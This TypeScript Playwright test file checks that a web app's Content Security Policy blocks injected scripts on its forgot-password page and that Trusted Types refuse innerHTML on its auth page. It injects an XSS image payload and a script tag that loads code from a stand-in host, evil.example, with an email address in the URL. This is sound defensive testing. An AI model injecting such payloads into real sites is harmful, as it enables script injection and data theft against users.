import { existsSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, test } from './fixtures/test.ts';

/** The reports about one page in the security log, which the first event creates. */
async function reportsOf(path: string): Promise<Record<string, unknown>[]> {
  const file = join(process.env.OFICIO_DATA_DIR ?? '', 'security.log');
  const log = existsSync(file) ? await readFile(file, 'utf8') : '';
  // The server may be writing the last line.
  const lines: Record<string, unknown>[] = log
    .split('\n')
    .slice(0, -1)
    .map((line) => JSON.parse(line));
  return lines.filter(({ event, page }) => event === 'csp_reported' && page === path);
}

test('scripts in the markup of a page do not run, and are reported without the query', async ({
  page,
}) => {
  const isPage = ({ pathname }: URL) => pathname === '/forgot-password';
  await page.route(isPage, async (route) => {
    const response = await route.fetch();
    const injected =
      '<script>window.hasRun = true</script><script src="https://evil.example/x.js?of=ana@example.es"></script>';
    await route.fulfill({ response, body: `${await response.text()}${injected}` });
  });
  await page.goto('/forgot-password?email=ana@example.es');
  await expect
    .poll(async () => (await reportsOf('/forgot-password')).map(({ blocked }) => blocked))
    .toEqual(expect.arrayContaining(['inline', 'https://evil.example']));
  expect(await page.evaluate(() => 'hasRun' in window)).toBe(false);
  expect(JSON.stringify(await reportsOf('/forgot-password'))).not.toContain('ana@');
});

test('markup from a string is refused and reported', async ({ page }) => {
  await page.goto('/auth?redirect=%2Fmessages');
  const refusal = await page.evaluate(() => {
    try {
      document.createElement('div').innerHTML = '<img src="x" onerror="alert(1)">';
      return 'accepted';
    } catch (error) {
      return error instanceof TypeError ? 'refused' : String(error);
    }
  });
  expect(refusal).toBe('refused');
  await expect
    .poll(async () => (await reportsOf('/auth')).map(({ sink }) => sink))
    .toContain('Element innerHTML');
});
